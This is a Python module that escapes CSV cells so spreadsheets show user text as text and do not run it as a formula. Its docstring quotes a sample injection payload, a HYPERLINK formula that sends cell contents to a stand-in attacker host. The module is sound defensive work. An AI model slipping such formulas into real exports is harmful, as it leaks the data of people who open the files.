"""CSV that a spreadsheet will not run: escaping formula injection in exported cells.

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a carriage return) as a formula, so text a user typed, such as
``=HYPERLINK("http://evil.example/?"&A1, "Click")``, could run or leak data when an
export is opened. Every cell written through this module that starts with one of those
characters gets a leading apostrophe, which spreadsheets read as "this is text".
(OWASP, "CSV Injection"; security.md s.4.)
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

# The characters that make a spreadsheet read a cell as a formula (OWASP "CSV Injection"),
# and NUL, which some readers treat as the end of the cell.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")


class TextSink(Protocol):
    """Anything text can be written to: a file, ``io.StringIO``, an ``HttpResponse``."""

    def write(self, text: str, /) -> Any: ...


def csv_safe_cell(value: object) -> str:
    """Return ``value`` as CSV cell text that a spreadsheet shows as text, never runs.

    ``None`` becomes an empty cell; NUL characters are removed.
    """
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_TRIGGERS):
        text = "'" + text
    return text.replace("\0", "")


class SafeCsvWriter:
    """A ``csv.writer`` that passes every cell through ``csv_safe_cell``."""

    def __init__(self, sink: TextSink) -> None:
        self._writer = csv.writer(sink)

    def writerow(self, row: Iterable[object]) -> None:
        """Write one row, each cell escaped."""
        self._writer.writerow([csv_safe_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> int:
        """Write the rows, each cell escaped; return how many were written."""
        count = 0
        for row in rows:
            self.writerow(row)
            count += 1
        return count
